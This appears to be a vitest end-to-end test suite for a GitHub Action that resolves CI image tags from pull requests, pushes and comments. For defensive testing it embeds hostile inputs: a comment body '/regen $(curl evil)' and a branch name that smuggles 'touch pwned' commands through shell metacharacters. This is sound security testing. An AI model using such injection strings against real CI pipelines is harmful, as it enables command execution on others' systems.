@@ -1,0 +1,230 @@
+// resolve-image end to end: the bundled dist/index.js, run as the Actions runner runs it,
+// against real git checkouts and the embedded GitHub.
+import { existsSync } from 'node:fs'
+import { join } from 'node:path'
+import { describe, expect, it } from 'vitest'
+import { runAction } from '../support/action.js'
+import { issueCommentEvent, pullRequestEvent, pullRequestObject, pushEvent, workflowDispatchEvent } from '../support/events.js'
+import { checkoutMerge, makePullRequestRepo, tempDir } from '../support/git.js'
+import { useEmbeddedGitHub } from '../support/embedded-github.js'
+
+const TOKEN = 'ghs_secretTokenValue1234567890'
+const inputs = (extra: Record<string, string> = {}) => ({ command: 'resolve-image', 'github-token': TOKEN, ...extra })
+
+const github = useEmbeddedGitHub()
+
+function prEvent(repo: ReturnType<typeof makePullRequestRepo>, extra: { fork?: boolean; changedFiles?: number } = {}) {
+  return pullRequestEvent({ number: repo.prNumber, baseRef: repo.baseRef, baseSha: repo.baseSha, headSha: repo.headSha, ...extra })
+}
+
+describe('resolve-image on pull requests, from git', () => {
+  it.each([
+    { name: 'Dockerfile.ci changed, base main', baseRef: 'main', files: { 'Dockerfile.ci': 'FROM node:24\n' }, tag: 'pr-42', modified: 'true', push: 'ghcr.io/acme/app/ci:pr-42' },
+    { name: 'build workflow changed, base v2', baseRef: 'v2', files: { '.github/workflows/build-ci-image.yml': 'on: push\n' }, tag: 'pr-42', modified: 'true', push: 'ghcr.io/acme/app/ci:pr-42' },
+    { name: 'only code changed, base v2', baseRef: 'v2', files: { 'src/app.ts': 'x\n' }, tag: 'v2', modified: 'false', push: '' },
+    { name: 'only code changed, base main', baseRef: 'main', files: { 'src/app.ts': 'x\n' }, tag: 'latest', modified: 'false', push: '' },
+    { name: 'only code changed, base master', baseRef: 'master', files: { 'src/app.ts': 'x\n' }, tag: 'latest', modified: 'false', push: '' },
+    { name: 'only code changed, base release/1.x', baseRef: 'release/1.x', files: { 'src/app.ts': 'x\n' }, tag: 'v2', modified: 'false', push: '' },
+  ] as { name: string; baseRef: string; files: Record<string, string>; tag: string; modified: string; push: string }[])('$name → $tag, without calling the API', async ({ baseRef, files, tag, modified, push }) => {
+    const repo = makePullRequestRepo({ baseRef, prFiles: files, baseCommitsAfterFork: 1 })
+    const run = await runAction({ inputs: inputs(), eventName: 'pull_request', event: prEvent(repo), workspace: checkoutMerge(repo, 1), apiUrl: github().url, sha: repo.mergeSha })
+    expect(run.exitCode, run.stdout).toBe(0)
+    expect(run.outputs).toMatchObject({
+      image: `ghcr.io/acme/app/ci:${tag}`,
+      tag,
+      tags: push,
+      modified,
+      fork: 'false',
+      'pr-number': '42',
+      'head-sha': repo.headSha,
+      'base-ref': baseRef,
+      'changed-files': JSON.stringify(modified === 'true' ? Object.keys(files) : []),
+    })
+    expect(run.outputs.reason).toMatch(/^.*PR #42.*\.$/)
+    expect(run.stdout).toContain(`ghcr.io/acme/app/ci:${tag}: ${run.outputs.reason}`)
+    expect(run.summary).toContain(`ghcr.io/acme/app/ci:${tag}`)
+    expect(github().requests).toHaveLength(0)
+    // The runner consumes ::add-mask:: and never prints it; no other line may carry the token.
+    expect(run.stdout.replace(`::add-mask::${TOKEN}`, '')).not.toContain(TOKEN)
+  })
+
+  it('a fork PR that changes the image keeps the stable tag, says why, and pushes nothing', async () => {
+    const repo = makePullRequestRepo({ baseRef: 'v2', prFiles: { 'Dockerfile.ci': 'FROM evil\n' } })
+    const run = await runAction({ inputs: inputs(), eventName: 'pull_request', event: prEvent(repo, { fork: true }), workspace: checkoutMerge(repo, 1), apiUrl: github().url })
+    expect(run.exitCode).toBe(0)
+    expect(run.outputs).toMatchObject({ tag: 'v2', modified: 'true', fork: 'true', tags: '', 'changed-files': '["Dockerfile.ci"]' })
+    expect(run.stdout).toMatch(/::warning title=Changed CI image not used::PR #42 changes the CI image but comes from a fork/)
+  })
+
+  it('derives watch from the build workflow in the checkout, with negation', async () => {
+    const workflow = "on:\n  pull_request:\n    paths:\n      - 'ci/**'\n      - '!ci/docs/**'\njobs: {}\n"
+    const docsOnly = makePullRequestRepo({ baseFiles: { '.github/workflows/build-ci-image.yml': workflow }, prFiles: { 'ci/docs/README.md': 'x\n', 'Dockerfile.ci': 'x\n' } })
+    let run = await runAction({ inputs: inputs(), eventName: 'pull_request', event: prEvent(docsOnly), workspace: checkoutMerge(docsOnly, 1), apiUrl: github().url })
+    expect(run.outputs).toMatchObject({ tag: 'latest', modified: 'false' })
+    expect(run.summary).toContain('on.pull_request.paths of .github/workflows/build-ci-image.yml')
+
+    const script = makePullRequestRepo({ baseFiles: { '.github/workflows/build-ci-image.yml': workflow }, prFiles: { 'ci/install.sh': 'x\n' } })
+    run = await runAction({ inputs: inputs(), eventName: 'pull_request', event: prEvent(script), workspace: checkoutMerge(script, 1), apiUrl: github().url })
+    expect(run.outputs).toMatchObject({ tag: 'pr-42', modified: 'true', 'changed-files': '["ci/install.sh"]' })
+  })
+
+  it('the watch input wins over the workflow (ci.Dockerfile spelling)', async () => {
+    const repo = makePullRequestRepo({ prFiles: { 'ci.Dockerfile': 'x\n' } })
+    const run = await runAction({ inputs: inputs({ watch: 'ci.Dockerfile\n' }), eventName: 'pull_request_target', event: prEvent(repo), workspace: checkoutMerge(repo, 1), apiUrl: github().url })
+    expect(run.outputs).toMatchObject({ tag: 'pr-42', modified: 'true', 'changed-files': '["ci.Dockerfile"]' })
+  })
+
+  it('lists every file of a PR larger than the API cap from git', async () => {
+    const many: Record<string, string> = {}
+    for (let i = 0; i < 3500; i++) many[`gen/file-${String(i).padStart(4, '0')}.txt`] = `${i}\n`
+    many['zz/Dockerfile.ci'] = 'x\n'
+    const repo = makePullRequestRepo({ prFiles: many })
+    const run = await runAction({ inputs: inputs({ watch: '**/Dockerfile.ci' }), eventName: 'pull_request', event: prEvent(repo, { changedFiles: 3501 }), workspace: checkoutMerge(repo, 1), apiUrl: github().url })
+    expect(run.outputs).toMatchObject({ tag: 'pr-42', 'changed-files': '["zz/Dockerfile.ci"]' })
+    expect(run.summary).toContain('3501 (listed by git)')
+  })
+})
+
+describe('resolve-image from the REST API when git cannot answer', () => {
+  function apiPullRequest(files: string[], changedFiles = files.length) {
+    github().pulls.set(42, pullRequestObject({ number: 42, headSha: 'c'.repeat(40), baseRef: 'v2', changedFiles }))
+    github().pullFiles.set(42, files.map((filename) => ({ filename, status: 'modified' })))
+    return pullRequestEvent({ number: 42, headSha: 'c'.repeat(40), baseRef: 'v2', changedFiles })
+  }
+  const codeFiles = (n: number) => Array.from({ length: n }, (_, i) => `src/f${i}.ts`)
+
+  it('pages through the PR files (watched file on page 3)', async () => {
+    const event = apiPullRequest([...codeFiles(250), 'Dockerfile.ci'])
+    const run = await runAction({ inputs: inputs(), eventName: 'pull_request', event, workspace: tempDir(), apiUrl: github().url })
+    expect(run.exitCode, run.stdout).toBe(0)
+    expect(run.outputs).toMatchObject({ tag: 'pr-42', modified: 'true', 'changed-files': '["Dockerfile.ci"]' })
+    expect(github().requests.filter((r) => !r.path.includes('/contents/')).map((r) => `${r.path}?${r.query.toString()}`)).toEqual([
+      '/repos/acme/app/pulls/42/files?per_page=100',
+      '/repos/acme/app/pulls/42/files?per_page=100&page=2',
+      '/repos/acme/app/pulls/42/files?per_page=100&page=3',
+    ])
+    expect(github().requests[0]!.headers.authorization).toBe(`token ${TOKEN}`)
+    expect(run.summary).toContain('251 (listed by api)')
+  })
+
+  it('counts the old path of a rename', async () => {
+    github().pulls.set(42, pullRequestObject({ number: 42, headSha: 'c'.repeat(40) }))
+    github().pullFiles.set(42, [{ filename: 'ci.Dockerfile', previous_filename: 'Dockerfile.ci', status: 'renamed' }])
+    const run = await runAction({ inputs: inputs(), eventName: 'pull_request', event: pullRequestEvent({ number: 42, headSha: 'c'.repeat(40) }), workspace: tempDir(), apiUrl: github().url })
+    expect(run.outputs).toMatchObject({ tag: 'pr-42', 'changed-files': '["Dockerfile.ci"]' })
+  })
+
+  it('refuses to decide on a truncated list (PR over 3,000 files, nothing watched in the listed part)', async () => {
+    const event = apiPullRequest([...codeFiles(3400), 'Dockerfile.ci'])
+    const run = await runAction({ inputs: inputs(), eventName: 'pull_request', event, workspace: tempDir(), apiUrl: github().url })
+    expect(run.exitCode).toBe(1)
+    expect(run.stdout).toContain(
+      '::error::PR #42 changes 3401 files, more than the 3000 the GitHub API lists, and none of those listed is watched, so the answer is unknown. Check out the repository (actions/checkout) so that git can list every file.',
+    )
+    expect(run.outputs.image).toBeUndefined()
+    expect(github().requests.filter((r) => r.path.endsWith('/files'))).toHaveLength(30)
+  })
+
+  it('decides on a truncated list when a watched file is among those listed', async () => {
+    const event = apiPullRequest(['Dockerfile.ci', ...codeFiles(3400)])
+    const run = await runAction({ inputs: inputs(), eventName: 'pull_request', event, workspace: tempDir(), apiUrl: github().url })
+    expect(run.outputs).toMatchObject({ tag: 'pr-42', modified: 'true' })
+  })
+
+  it('reads the build workflow at the PR head from the API when there is no checkout', async () => {
+    github().files.set('.github/workflows/build-ci-image.yml', "on:\n  pull_request:\n    paths: ['ci/**']\n")
+    const event = apiPullRequest(['ci/install.sh', 'README.md'])
+    const run = await runAction({ inputs: inputs(), eventName: 'pull_request', event, workspace: tempDir(), apiUrl: github().url })
+    expect(run.outputs).toMatchObject({ tag: 'pr-42', 'changed-files': '["ci/install.sh"]' })
+    expect(run.summary).toContain('on.pull_request.paths of .github/workflows/build-ci-image.yml')
+    const read = github().requests.find((r) => r.path.includes('/contents/'))
+    expect(read?.query.get('ref')).toBe('c'.repeat(40))
+  })
+
+  it('uses the defaults when the repository has no build workflow, and asks nothing when watch is given', async () => {
+    const event = apiPullRequest(['ci/install.sh'])
+    let run = await runAction({ inputs: inputs(), eventName: 'pull_request', event, workspace: tempDir(), apiUrl: github().url })
+    expect(run.outputs).toMatchObject({ tag: 'v2', modified: 'false' })
+    expect(run.summary).toContain('from the defaults')
+    github().requests.length = 0
+    run = await runAction({ inputs: inputs({ watch: 'ci/**' }), eventName: 'pull_request', event, workspace: tempDir(), apiUrl: github().url })
+    expect(run.outputs).toMatchObject({ tag: 'pr-42' })
+    expect(github().requests.some((r) => r.path.includes('/contents/'))).toBe(false)
+  })
+
+  it('issue_comment from a trusted commenter reads the PR from the API', async () => {
+    apiPullRequest(['README.md'])
+    const run = await runAction({ inputs: inputs(), eventName: 'issue_comment', event: issueCommentEvent({ association: 'COLLABORATOR' }), workspace: tempDir(), apiUrl: github().url })
+    expect(run.exitCode, run.stdout).toBe(0)
+    expect(run.outputs).toMatchObject({ tag: 'v2', modified: 'false', 'head-sha': 'c'.repeat(40), 'base-ref': 'v2' })
+    expect(github().requests.map((r) => r.path)).toEqual([
+      '/repos/acme/app/pulls/42',
+      '/repos/acme/app/contents/.github%2Fworkflows%2Fbuild-ci-image.yml',
+      '/repos/acme/app/pulls/42/files',
+    ])
+  })
+
+  it('issue_comment from an untrusted commenter fails and does nothing else', async () => {
+    apiPullRequest(['Dockerfile.ci'])
+    const event = issueCommentEvent({ association: 'NONE', login: 'mallory', body: '/regen $(curl evil)' })
+    const run = await runAction({ inputs: inputs(), eventName: 'issue_comment', event, workspace: tempDir(), apiUrl: github().url })
+    expect(run.exitCode).toBe(1)
+    expect(run.stdout).toContain('::error::@mallory (author_association NONE) is not allowed to run this')
+    expect(github().requests).toHaveLength(0)
+    expect(run.outputs).toEqual({})
+  })
+
+  it('names the input when there is no token and no checkout', async () => {
+    const event = pullRequestEvent({ number: 42, headSha: 'c'.repeat(40) })
+    const run = await runAction({ inputs: { command: 'resolve-image', 'github-token': '' }, eventName: 'pull_request', event, workspace: tempDir(), apiUrl: github().url })
+    expect(run.exitCode).toBe(1)
+    expect(run.stdout).toContain('no token was given to ask the API')
+  })
+})
+
+describe('resolve-image on pushes', () => {
+  const sha = 'abcdef0123456789abcdef0123456789abcdef01'
+  it.each([
+    ['v2', 'v2', ['v2', 'v2-sha-abcdef0']],
+    ['main', 'latest', ['latest', 'main-sha-abcdef0']],
+    ['master', 'latest', ['latest', 'master-sha-abcdef0']],
+    ['feature/Ünïcode', 'feature-Unicode-sha-abcdef0', ['feature-Unicode-sha-abcdef0']],
+  ])('push to %s → %s', async (branch, tag, push) => {
+    const run = await runAction({ inputs: inputs({ image: 'GHCR.IO/Acme/App/CI' }), eventName: 'push', event: pushEvent({ ref: `refs/heads/${branch}`, after: sha }), ref: `refs/heads/${branch}`, apiUrl: github().url })
+    expect(run.exitCode, run.stdout).toBe(0)
+    expect(run.outputs).toMatchObject({ tag, image: `ghcr.io/acme/app/ci:${tag}`, tags: push.map((t) => `ghcr.io/acme/app/ci:${t}`).join('\n'), modified: 'false', 'head-sha': sha })
+  })
+
+  it('a branch name with shell metacharacters is a tag and never a command', async () => {
+    const workspace = tempDir()
+    const branch = 'x/$(touch pwned);`touch pwned2`|>pwned3'
+    const run = await runAction({ inputs: inputs(), eventName: 'push', event: pushEvent({ ref: `refs/heads/${branch}`, after: sha }), ref: `refs/heads/${branch}`, workspace, apiUrl: github().url })
+    expect(run.outputs.tag).toBe('x-touch-pwned-touch-pwned2-pwned3-sha-abcdef0')
+    for (const file of ['pwned', 'pwned2', 'pwned3']) expect(existsSync(join(workspace, file))).toBe(false)
+  })
+
+  it('workflow_dispatch on v2', async () => {
+    const run = await runAction({ inputs: inputs(), eventName: 'workflow_dispatch', event: workflowDispatchEvent({ ref: 'refs/heads/v2' }), ref: 'refs/heads/v2', sha, apiUrl: github().url })
+    expect(run.outputs).toMatchObject({ tag: 'v2', tags: 'ghcr.io/acme/app/ci:v2\nghcr.io/acme/app/ci:v2-sha-abcdef0' })
+  })
+})
+
+describe('resolve-image refuses bad input with a message naming it', () => {
+  const event = pushEvent({ ref: 'refs/heads/main', after: 'a'.repeat(40) })
+  it.each([
+    [{ command: 'build-image' }, 'Input `command` must be one of resolve-image, wait-for-build, comment-image; got "build-image".'],
+    [{ 'poll-interval': '0' }, 'Input `poll-interval` must be a positive whole number; got "0".'],
+    [{ timeout: 'ten' }, 'Input `timeout` must be a positive whole number; got "ten".'],
+    [{ 'branch-tags': 'main latest' }, 'Input `branch-tags` takes one `branch=tag` per line (e.g. main=latest); got "main latest".'],
+  ])('%j', async (bad, message) => {
+    const run = await runAction({ inputs: inputs(bad), eventName: 'push', event, ref: 'refs/heads/main', apiUrl: github().url })
+    expect(run.exitCode).toBe(1)
+    expect(run.stdout).toContain(`::error::${message}`)
+  })
+
+  it('an unsupported event', async () => {
+    const run = await runAction({ inputs: inputs(), eventName: 'schedule', event: {}, apiUrl: github().url })
+    expect(run.exitCode).toBe(1)
+    expect(run.stdout).toContain('::error::The event "schedule" is not supported')
+  })
+})
